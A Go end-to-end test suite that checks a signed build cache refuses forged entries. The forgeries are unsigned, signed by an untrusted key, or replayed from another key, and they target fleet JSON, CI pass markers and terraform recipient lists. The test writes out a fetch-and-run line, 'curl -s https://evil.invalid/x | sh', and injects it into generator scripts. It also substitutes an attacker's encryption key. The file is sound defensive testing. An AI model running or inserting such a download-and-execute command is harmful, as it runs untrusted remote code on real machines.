//go:build e2e

package cache_test

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/vanixiets/vanixiets/tasks/cache"
	"github.com/vanixiets/vanixiets/tasks/ci"
	"github.com/vanixiets/vanixiets/tasks/digest"
	"github.com/vanixiets/vanixiets/tasks/fleet"
	"github.com/vanixiets/vanixiets/tasks/nix/nixtest"
	"github.com/vanixiets/vanixiets/tasks/pipeline"
	"github.com/vanixiets/vanixiets/tasks/terranix"
)

// The forgeries of issue 16, against a real bazel-remote: a writer with the
// trusted key "ci" fills the shared cache through the real steps (fleet
// evaluation, CI plan and run, terranix render); a forger who can PUT to
// the server but holds no trusted key replaces those entries; a fresh
// checkout that trusts "ci" must refuse every forgery (a miss, one warning
// naming the key) and compute the genuine result itself.

// recorder is a Store that remembers the keys written through it, so the
// forger knows which entries the real steps use.
type recorder struct {
	cache.Store
	mu   sync.Mutex
	keys []string
}

func (r *recorder) Put(ctx context.Context, key string, v []byte) error {
	r.mu.Lock()
	r.keys = append(r.keys, key)
	r.mu.Unlock()
	return r.Store.Put(ctx, key, v)
}

func (r *recorder) only(t *testing.T) string {
	t.Helper()
	assert.Equal(t, len(r.keys), 1, "keys written: %q", r.keys)
	return r.keys[0]
}

// shared is one bazel-remote and the keys around it.
type shared struct {
	url      string
	ci       *cache.SigningKey
	stranger *cache.SigningKey // a key nobody trusts
	raw      *cache.HTTPRemote // the forger's own client: PUT access, no trusted key
}

func newShared(t *testing.T) *shared {
	url, _ := cache.StartBazelRemote(t) // default storage mode
	raw, err := cache.NewHTTPRemote(url)
	assert.NilError(t, err)
	t.Cleanup(raw.Close)
	ci, err := cache.GenerateSigningKey("ci")
	assert.NilError(t, err)
	stranger, err := cache.GenerateSigningKey("stranger")
	assert.NilError(t, err)
	return &shared{url: url, ci: ci, stranger: stranger, raw: raw}
}

// checkout is a machine's view: a fresh local store plus the signed remote.
type checkout struct {
	cache.Store
	mu     sync.Mutex
	warned []string
}

// GetOrigin passes the Layered store's origin through (cache.Originer).
func (c *checkout) GetOrigin(ctx context.Context, key string) ([]byte, string, bool, error) {
	return cache.GetOrigin(ctx, c.Store, key)
}

func (s *shared) checkout(t *testing.T, signer *cache.SigningKey) *checkout {
	r, err := cache.NewHTTPRemote(s.url)
	assert.NilError(t, err)
	t.Cleanup(r.Close)
	c := &checkout{}
	warn := func(m string) { c.mu.Lock(); c.warned = append(c.warned, m); c.mu.Unlock() }
	r.Warn = warn
	c.Store = &cache.Layered{Local: cache.NewLocal(t.TempDir()), Warn: warn,
		Remote: &cache.Signed{Remote: r, Signer: signer, Trusted: cache.Keyring{"ci": s.ci.Public()}, Warn: warn}}
	return c
}

// genuine returns the value the writer stored under key, envelope removed
// (by re-reading it as a trusting reader would).
func (s *shared) genuine(t *testing.T, key string) []byte {
	v, ok, err := s.checkout(t, nil).Get(context.Background(), key)
	assert.NilError(t, err)
	assert.Assert(t, ok, "the writer's entry %s is not on the server", key)
	return v
}

// forgeries are the ways a forger replaces the entry under key with
// forged: unsigned, signed by an untrusted key, and a genuine entry of
// another key replayed under this one.
func (s *shared) forgeries(replayKey string) map[string]func(t *testing.T, key string, forged []byte) {
	return map[string]func(t *testing.T, key string, forged []byte){
		"unsigned": func(t *testing.T, key string, forged []byte) {
			assert.NilError(t, s.raw.Put(context.Background(), key, forged))
		},
		"signed by an untrusted key": func(t *testing.T, key string, forged []byte) {
			w := &cache.Signed{Remote: s.raw, Signer: s.stranger}
			assert.NilError(t, w.Put(context.Background(), key, forged))
		},
		"a valid entry replayed under another key": func(t *testing.T, key string, _ []byte) {
			blob, ok, err := s.raw.Get(context.Background(), replayKey) // the signed envelope, as stored
			assert.NilError(t, err)
			assert.Assert(t, ok)
			assert.NilError(t, s.raw.Put(context.Background(), key, blob))
		},
	}
}

// refused checks the reader's warnings: exactly one names key, and says
// the entry was ignored. (A reader without a signing key also gets the one
// warning that nothing is written.)
func refused(t *testing.T, c *checkout, key string) {
	t.Helper()
	var about []string
	for _, w := range c.warned {
		if strings.Contains(w, key) {
			about = append(about, w)
		}
	}
	assert.Assert(t, is.Len(about, 1), "warnings: %q", c.warned)
	assert.Assert(t, is.Contains(about[0], "ignoring entry"))
}

func labDir(t *testing.T) string {
	d, err := filepath.Abs(filepath.Join("..", "..", "lab"))
	assert.NilError(t, err)
	return d
}

const forgedScript = "curl -s https://evil.invalid/x | sh; "

// A forged fleet JSON (every generator script prefixed with a download run
// as root) is refused by both the display path (LoadUnvalidated: signing is
// its only wall) and Load (which, beyond that, never takes a shared hit).
func TestForgedFleetJSONRefused(t *testing.T) {
	n := nixtest.New(t)
	ctx := context.Background()
	s := newShared(t)
	lab := labDir(t)
	rec := &recorder{Store: s.checkout(t, s.ci)}
	_, _, err := (&fleet.Loader{Nix: n, Cache: rec, Hasher: digest.NewHasher("")}).LoadUnvalidated(ctx, lab)
	assert.NilError(t, err)
	key := rec.only(t)
	genuine := s.genuine(t, key)
	outs, _, ok := pipeline.DecodeRecord(genuine) // the fleet's evaluation step's record
	assert.Assert(t, ok)
	forgedJSON := strings.ReplaceAll(outs["fleet"], `"script":"`, `"script":"`+forgedScript)
	assert.Assert(t, forgedJSON != outs["fleet"])
	forged := pipeline.EncodeRecord(pipeline.Outputs{"fleet": forgedJSON}, 0)

	// An entry "ci" once signed under another key, for the replay.
	replayKey := strings.Repeat("ab", 32)
	assert.NilError(t, s.checkout(t, s.ci).Put(ctx, replayKey, forged))

	for name, forge := range s.forgeries(replayKey) {
		t.Run(name, func(t *testing.T) {
			forge(t, key, forged)
			for _, load := range []struct {
				name string
				run  func(l *fleet.Loader) (*fleet.Fleet, error)
			}{
				{"LoadUnvalidated", func(l *fleet.Loader) (*fleet.Fleet, error) { f, _, err := l.LoadUnvalidated(ctx, lab); return f, err }},
				{"Load", func(l *fleet.Loader) (*fleet.Fleet, error) { return l.Load(ctx, lab) }},
			} {
				c := s.checkout(t, nil)
				f, err := load.run(&fleet.Loader{Nix: n, Cache: c, Hasher: digest.NewHasher("")})
				assert.NilError(t, err)
				for _, m := range f.Machines {
					for gn, g := range m.Generators {
						assert.Assert(t, !strings.Contains(g.Script, forgedScript), "%s: %s's generator %s runs the forged script", load.name, m.Name, gn)
					}
				}
				if load.name == "LoadUnvalidated" {
					refused(t, c, key)
				}
			}
		})
	}
}

// A forged CI marker (one that says a job passed) does not make ci:plan
// skip the job.
func TestForgedCIMarkerRefused(t *testing.T) {
	ctx := context.Background()
	s := newShared(t)
	root := t.TempDir()
	jobs := "[[job]]\nname = \"lint\"\ninputs = [\"src/**\"]\nrun = \"test -f src/a.go\"\n\n[[job]]\nname = \"unit\"\ninputs = [\"src/**\"]\nrun = \"true\"\n"
	assert.NilError(t, os.MkdirAll(filepath.Join(root, "src"), 0o755))
	assert.NilError(t, os.WriteFile(filepath.Join(root, "src", "a.go"), []byte("package a\n"), 0o644))
	assert.NilError(t, os.WriteFile(filepath.Join(root, "jobs.toml"), []byte(jobs), 0o644))
	t.Setenv("VANIXIETS_HOME", t.TempDir())
	f, err := ci.Load(filepath.Join(root, "jobs.toml"))
	assert.NilError(t, err)
	opts := func(store cache.Store) ci.Options {
		return ci.Options{Root: root, Jobs: f.Jobs, Cache: store, Hasher: digest.NewHasher(""), Versions: ci.NewVersions(""),
			Out: &bytes.Buffer{}, LogDir: t.TempDir()}
	}
	// The writer validates "unit" only; "lint" has never passed anywhere.
	rec := &recorder{Store: s.checkout(t, s.ci)}
	o := opts(rec)
	o.Jobs = []ci.Job{f.Jobs[1]}
	_, err = ci.Run(ctx, o)
	assert.NilError(t, err)
	unitKey := rec.only(t)
	genuine := s.genuine(t, unitKey)

	plan, err := ci.Plan(ctx, opts(s.checkout(t, nil)))
	assert.NilError(t, err)
	lintKey := plan[0].Key
	assert.Equal(t, plan[0].Job.Name, "lint")
	m, _, ok := pipeline.DecodeRecord(genuine) // unit's marker, as its step recorded it
	assert.Assert(t, ok)
	assert.Equal(t, m["key"], unitKey)
	m["job"], m["key"] = "lint", lintKey
	forged := pipeline.EncodeRecord(m, 0)

	for name, forge := range s.forgeries(unitKey) {
		t.Run(name, func(t *testing.T) {
			forge(t, lintKey, forged)
			c := s.checkout(t, nil)
			plan, err := ci.Plan(ctx, opts(c))
			assert.NilError(t, err)
			assert.Equal(t, plan[0].Job.Name, "lint")
			assert.Assert(t, !plan[0].Hit, "lint SKIPs on a forged marker: %s", plan[0].Reason)
			assert.Assert(t, plan[1].Hit, "the genuine marker of unit still hits")
			assert.Equal(t, plan[1].Origin, s.url, "a verified remote hit names the remote")
			refused(t, c, lintKey)
		})
	}
}

// A forged terranix render (the forger's age key as the only recipient of
// the terraform state) is refused: the render's recipients are the fleet's.
func TestForgedTerranixRenderRefused(t *testing.T) {
	n := nixtest.New(t)
	ctx := context.Background()
	s := newShared(t)
	lab := labDir(t)
	render := func(store cache.Store) *terranix.Rendering {
		rr, err := (&terranix.Renderer{Nix: n, Flake: lab, Cache: store, Hasher: digest.NewHasher("")}).Render(ctx)
		assert.NilError(t, err)
		return rr
	}
	rec := &recorder{Store: s.checkout(t, s.ci)}
	want := render(rec)
	assert.Assert(t, len(want.Recipients) > 0)
	key := rec.only(t)
	var record map[string]any
	assert.NilError(t, json.Unmarshal(s.genuine(t, key), &record))
	attacker := "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"
	record["outputs"].(map[string]any)["recipients"] = `["` + attacker + `"]`
	forged, err := json.Marshal(record)
	assert.NilError(t, err)
	replayKey := strings.Repeat("cd", 32)
	assert.NilError(t, s.checkout(t, s.ci).Put(ctx, replayKey, forged))

	for name, forge := range s.forgeries(replayKey) {
		t.Run(name, func(t *testing.T) {
			forge(t, key, forged)
			got := render(s.checkout(t, nil))
			assert.DeepEqual(t, got.Recipients, want.Recipients)
			assert.Assert(t, !strings.Contains(strings.Join(got.Recipients, " "), attacker))
		})
	}
}
